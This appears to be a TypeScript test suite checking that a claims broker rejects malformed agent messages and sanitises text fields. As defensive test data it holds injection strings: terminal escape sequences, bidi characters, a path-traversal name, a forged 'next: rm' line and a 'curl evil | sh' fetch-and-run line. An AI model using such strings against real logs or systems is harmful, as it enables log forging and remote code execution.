import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { CLAIMS_BEYOND_CAPACITY_MAX } from '../../../src/domain/link/agent-bounds.js';
import type { ClaimReport } from '../../../src/gen/rma/v1/ClaimReport.js';
import type { RmaHolder } from '../../../src/gen/rma/v1/RmaHolder.js';
import {
  call,
  clientsOf,
  MIB,
  memoryDisk,
  ObedientAgent,
  refusalOf,
  requestFor,
  testBroker,
  wireHello,
} from '../support.js';

type Clients = ReturnType<typeof clientsOf>;

async function withBroker(work: (clients: Clients) => Promise<void>): Promise<void> {
  const running = await testBroker(memoryDisk());
  try {
    await work(clientsOf(running.port));
  } finally {
    await running.stop();
  }
}

/** What a watch shows up to the end of its snapshot. */
async function snapshotOf({ broker }: Clients) {
  const stream = broker.WatchClaims({});
  const shown: string[] = [];
  for await (const { changed, snapshotComplete } of stream) {
    if (snapshotComplete) break;
    shown.push(changed.name);
  }
  stream.cancel();
  return shown;
}

const UINT64_MAX = '18446744073709551615';
const INT64_MAX = '9223372036854775807';
const claims = (patch: object) => ({ claims: [{ claim: 'claims/x', fencingToken: 1, state: 'ENDED', ...patch }] });
const inventory = (capacityCount: number, slots: object, counts: object = {}) => ({
  inventory: { capacityCount, slots, ...counts },
});

describe('a Hello with a value that no node has ends as INVALID_FIELD, and leaves no node behind:', () => {
  const PARAGRAPH = '\u2029';
  const rows: readonly (readonly [field: string, what: string, patch: object])[] = [
    ['hello.rma_size_bytes', 'the largest number', { rmaSizeBytes: Number.MAX_SAFE_INTEGER }],
    ['hello.rma_size_bytes', 'past what a double has', { rmaSizeBytes: UINT64_MAX }],
    ['hello.rma_size_bytes', 'no whole page', { rmaSizeBytes: 128 * MIB + 1 }],
    ['hello.rma_size_bytes', 'times the capacity', { rmaSizeBytes: 2 ** 40, ...inventory(65_536, { free: 65_536 }) }],
    ['hello.device', 'unknown', { device: 77 }],
    ['hello.rma_capability', 'unknown', { rmaCapability: 3 }],
    ['hello.held_back_count', 'too many', { heldBackCount: 2 ** 32 - 1 }],
    ['hello.boot_id', 'a line break', { bootId: 'boot\nnext: rm' }],
    ['hello.agent_version', 'an escape sequence', { agentVersion: '\u001b[2J' }],
    ['hello.incarnation', 'bidi', { incarnation: 'life\u202e' }],
    ['hello.labels key', 'a separator', { labels: { [`zone${PARAGRAPH}`]: 'a' } }],
    ['hello.labels.zone', 'a format character', { labels: { zone: 'a\u200b' } }],
    ['hello.inventory.slots', 'that do not add up', inventory(2, { free: 1 })],
    ['hello.inventory.unclaimed_count', 'beyond the capacity', inventory(2, { free: 2 }, { unclaimedCount: 3 })],
    ['hello.inventory.unclaimed_count', 'of free ones', inventory(2, { free: 2 }, { unclaimedCount: 1 })],
    ['hello.inventory.unclaimed_count', 'less than is missing', inventory(2, { free: 1, unavailable: 1 })],
    ['hello.inventory.unscheduled_count', 'beyond', inventory(1, { bound: 1 }, { unscheduledCount: 1 })],
    [
      'hello.inventory.poisoned_count',
      'beyond the quarantined',
      inventory(2, { free: 1, quarantined: 1 }, { unclaimedCount: 1, poisonedCount: 2 }),
    ],
    ['hello.claims[0].state', 'unknown', claims({ state: 77 })],
    ['hello.claims[0].fencing_token', 'past a double', claims({ fencingToken: UINT64_MAX })],
    ['hello.claims[1].claim', 'twice', { claims: [claims({}).claims[0], claims({}).claims[0]] }],
    ['hello.claims[0].holder.start_ticks', 'past a double', claims({ holder: { pid: 1, startTicks: UINT64_MAX } })],
    ['hello.claims[0].holder.pid', 'of 64 bits', claims({ holder: { pid: INT64_MAX } })],
    ['hello.claims[0].holder.pid', 'negative', claims({ holder: { pid: -1 } })],
    [
      'hello.claims[0].clearing.duration',
      'negative',
      claims({ clearing: { method: 'AGENT', duration: { seconds: -1 } } }),
    ],
    [
      'hello.claims[0].clearing.duration',
      'an age',
      claims({ clearing: { method: 'AGENT', duration: { seconds: INT64_MAX } } }),
    ],
    ['hello.claims[0].clearing.method', 'unknown', claims({ clearing: { method: 77 } })],
    ['hello.claims[0].clearing.pages_checked', 'too many', claims({ clearing: { pagesChecked: 2 ** 32 - 1 } })],
  ];
  for (const [field, what, patch] of rows) {
    it(`${field}, ${what}`, () =>
      withBroker(async ({ agent, fleet }) => {
        const stranger = new ObedientAgent(agent);
        stranger.send({ hello: wireHello('n1', 1, patch) });
        const refused = await stranger.ended;
        assert.deepEqual([refused?.reason, refused?.metadata['field']], ['INVALID_FIELD', field]);
        assert.deepEqual((await call(fleet, fleet.ListNodes, {})).nodes, []);
      }));
  }

  it('hello.claims, more than its pool can explain', () =>
    withBroker(async ({ agent, fleet }) => {
      const ended = (count: number) =>
        Array.from({ length: count }, (_, index) => ({
          claim: `claims/c${index}`,
          fencingToken: 1,
          state: 'ENDED' as const,
        }));
      const most = await new ObedientAgent(agent).greet(
        wireHello('n1', 4, { claims: ended(4 + CLAIMS_BEYOND_CAPACITY_MAX) }),
      );
      most.hangUp();
      const stranger = new ObedientAgent(agent);
      stranger.send({ hello: wireHello('n2', 4, { claims: ended(5 + CLAIMS_BEYOND_CAPACITY_MAX) }) });
      assert.equal((await stranger.ended)?.metadata['field'], 'hello.claims count');
      assert.deepEqual(
        (await call(fleet, fleet.ListNodes, {})).nodes.map(({ name }) => name),
        ['nodes/n1'],
      );
    }));
});

describe('a Hello with as many claims as it may have, none of which the broker made', () => {
  it('has its node full, its agent told to end each of them once and in order, and a claim placed elsewhere meanwhile', () =>
    withBroker(async ({ agent, broker, fleet }) => {
      await new ObedientAgent(agent).greet(wireHello('n2', 1));
      const count = 4 + CLAIMS_BEYOND_CAPACITY_MAX;
      const names = Array.from({ length: count }, (_, index) => `claims/c${index}`);
      const claims = names.map((claim) => ({ claim, fencingToken: 1, state: 'PREPARED' as const }));
      const node = new ObedientAgent(agent);
      node.obedient = false;
      node.send({ hello: wireHello('n1', 4, { claims, takesBatches: true }) });
      const { claim } = await call(broker, broker.CreateClaim, requestFor('vm'));
      assert.equal(claim?.node, 'nodes/n2');
      const ordered = () =>
        node.received.flatMap(({ orders }) => orders?.orders.map(({ unprepare }) => unprepare?.claim) ?? []);
      await node.until(() => ordered().length >= count);
      assert.deepEqual(ordered(), names);
      const { freeCount, liveClaimCount } = await call(fleet, fleet.GetNode, { name: 'nodes/n1' });
      assert.deepEqual([freeCount, liveClaimCount], [0, 0]);
    }));
});

describe('a report with a value that cannot be', () => {
  const HOLDER = { pid: 7, startTicks: 9, executable: '/bin/vmm' };
  const rows: readonly (readonly [field: string, report: Partial<ClaimReport>])[] = [
    ['holder.start_ticks', { holder: { ...HOLDER, startTicks: UINT64_MAX } }],
    ['holder.pid', { holder: { ...HOLDER, pid: INT64_MAX } }],
    ['holder.pid', { holder: { ...HOLDER, pid: 0 } }],
    ['clearing.duration', { holder: HOLDER, clearing: { method: 'AGENT', duration: { seconds: -1, nanos: 5 } } }],
    ['clearing.method', { holder: HOLDER, clearing: { method: 77 as unknown as 'AGENT' } }],
    ['state', { holder: HOLDER, state: 77 as unknown as 'BOUND' }],
  ];
  for (const [field, patch] of rows) {
    it(`in ${field} ends the session, and its claim is listed, watched and released as before`, () =>
      withBroker(async (clients) => {
        const { agent, broker } = clients;
        const forger = await new ObedientAgent(agent).greet(wireHello('n1', 1));
        const { claim } = await call(broker, broker.CreateClaim, requestFor('vm'));
        const name = claim?.name ?? '';
        forger.report(name, 'BOUND', patch);
        const refused = await forger.ended;
        assert.deepEqual([refused?.reason, refused?.metadata['field']], ['INVALID_FIELD', `claim_report.${field}`]);
        assert.deepEqual(
          (await call(broker, broker.ListClaims, {})).claims.map(({ state }) => state),
          ['PREPARED'],
        );
        assert.deepEqual(await snapshotOf(clients), [name]);
        assert.equal((await call(broker, broker.ReleaseClaim, { name })).state, 'RELEASING');
      }));
  }

  it('but for the text, which is what somebody called a program: it is cleaned, and the session goes on', () =>
    withBroker(async ({ agent, broker }) => {
      const node = await new ObedientAgent(agent).greet(wireHello('n1', 1));
      const { claim } = await call(broker, broker.CreateClaim, requestFor('vm'));
      const name = claim?.name ?? '';
      const executable = `/tmp/\u001b[31mvmm\0\n\u202e\u2028${'é'.repeat(4_096)}`;
      node.report(name, 'BOUND', { holder: { ...HOLDER, executable } });
      node.send({ heartbeat: {} });
      await node.until(({ ack }) => ack === 4);
      const { holder } = await call(broker, broker.GetClaim, { name });
      assert.equal(holder?.executable.slice(0, 17), '/tmp/\ufffd[31mvmm\ufffd\ufffd\ufffd\ufffd');
      assert.ok(Buffer.byteLength(holder.executable) <= 4_096);
    }));

  it('but for a cause that only a newer agent knows: that is none', () =>
    withBroker(async ({ agent, broker }) => {
      const node = await new ObedientAgent(agent).greet(wireHello('n1', 1));
      const { claim } = await call(broker, broker.CreateClaim, requestFor('vm'));
      node.report(claim?.name ?? '', 'ENDED', { endCause: 77 });
      node.send({ heartbeat: {} });
      await node.until(({ ack }) => ack === 4);
      const { state, endCause } = await call(broker, broker.GetClaim, { name: claim?.name ?? '' });
      assert.deepEqual([state, endCause], ['RELEASED', 'HOLDER_EXITED']);
    }));
});

describe('an answer about holders with a value that cannot be', () => {
  const rows: readonly (readonly [field: string, holder: RmaHolder])[] = [
    ['state', { state: 77 as unknown as 'BOUND', pid: 1 }],
    ['state', { pid: 1 }],
    ['pid', { state: 'BOUND', pid: INT64_MAX }],
    ['start_ticks', { state: 'BOUND', pid: 1, startTicks: UINT64_MAX }],
    ['inode', { state: 'BOUND', pid: 1, inode: UINT64_MAX }],
    ['slot', { state: 'BOUND', pid: 1, slot: -2 }],
    ['claim', { state: 'BOUND', pid: 1, claim: 'claims/../x' }],
  ];
  for (const [field, holder] of rows) {
    it(`in ${field} ends the session, and the caller is told that there is none`, () =>
      withBroker(async ({ agent, fleet }) => {
        const forger = await new ObedientAgent(agent).greet(wireHello('n1', 1));
        const asked = refusalOf(call(fleet, fleet.ListNodeHolders, { name: 'nodes/n1' }));
        const { listHolders } = await forger.until(({ body }) => body === 'listHolders');
        forger.send({ holdersReport: { queryId: listHolders?.queryId ?? 0, holders: [holder] } });
        const refused = await forger.ended;
        assert.equal(refused?.metadata['field'], `holders_report.holders[0].${field}`);
        assert.equal((await asked).reason, 'NODE_SILENT');
      }));
  }

  it('but for texts, which are cleaned: none of a process, a guest or a problem forges a line', () =>
    withBroker(async ({ agent, fleet }) => {
      const node = await new ObedientAgent(agent).greet(wireHello('n1', 1));
      const ask = async (answer: object) => {
        const asked = call(fleet, fleet.ListNodeHolders, { name: 'nodes/n1' });
        const { listHolders } = await node.until(({ listHolders }) => listHolders?.queryId === answers + 1);
        answers += 1;
        node.send({ holdersReport: { queryId: listHolders?.queryId ?? 0, ...answer } });
        return asked;
      };
      let answers = 0;
      const texts = { executable: '\u001b]0;x\u0007', cgroup: '/a\nb', guest: '\u202egpj' };
      const { holders } = await ask({ holders: [{ state: 'UNKNOWN', pid: 1, ...texts }] });
      const [holder] = holders;
      assert.deepEqual(
        [holder?.executable, holder?.cgroup, holder?.guest],
        ['\ufffd]0;x\ufffd', '/a\ufffdb', '\ufffdgpj'],
      );
      const refused = await refusalOf(ask({ problem: 'no\u001b[2J\nnext: curl evil | sh' }));
      assert.match(refused.message, /no\ufffd\[2J\ufffdnext: curl evil \| sh$/);
    }));
});
